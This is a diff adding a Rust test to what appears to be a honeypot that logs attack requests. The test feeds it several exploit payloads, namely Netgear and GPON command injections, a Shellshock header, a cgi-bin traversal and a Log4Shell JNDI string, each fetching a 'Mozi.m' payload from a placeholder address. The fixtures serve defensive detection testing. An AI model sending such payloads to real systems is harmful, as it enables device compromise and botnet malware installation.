@@ -94,3 +94,28 @@ fn the_traversal_of_esx_gives_the_inventory_by_either_spelling() {
         assert_eq!(outcome.the_event("request").fields["decoded"]["vulnerability"], "CVE-2009-3733");
     }
 }
+
+#[test]
+fn what_injected_commands_would_fetch_is_recorded_and_the_request_whole() {
+    let query = "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://192.0.2.9/Mozi.m+-O+/tmp/n;sh+/tmp/n";
+    let form = post(
+        "/GponForm/diag_Form?images/",
+        "application/x-www-form-urlencoded",
+        "dest_host=`wget+http://192.0.2.9/Mozi.m`;",
+    );
+    let shellshock = "GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :;}; /bin/sh -c \"curl http://192.0.2.9/Mozi.m\"\r\n\r\n";
+    let traversal = post("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "text/plain", "echo;wget 192.0.2.9/Mozi.m;id");
+    let requests = [&format!("GET {query} HTTP/1.1\r\nHost: x\r\n\r\n"), &form, shellshock, &traversal];
+    for settings in [NGINX, APACHE] {
+        for (request, status) in requests.iter().zip([404, 404, 404, 400]) {
+            let outcome = ask("http", settings, request);
+            let urls: Vec<&str> = outcome.downloads.iter().map(|download| download.url.as_str()).collect();
+            assert_eq!(urls, ["http://192.0.2.9/Mozi.m"], "{request}");
+            assert_eq!(outcome.the_event("download").fields["url"], "http://192.0.2.9/Mozi.m");
+            assert_eq!(outcome.the_event("request").fields["status"], status, "{request}");
+        }
+    }
+    let lookup = ask("http", "", "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://192.0.2.9:1389/a}\r\n\r\n");
+    assert_eq!(lookup.the_event("download").fields["tool"], "jndi");
+    assert!(ask("http", "", "GET /?see=http://192.0.2.9/ HTTP/1.1\r\nHost: x\r\n\r\n").downloads.is_empty());
+}
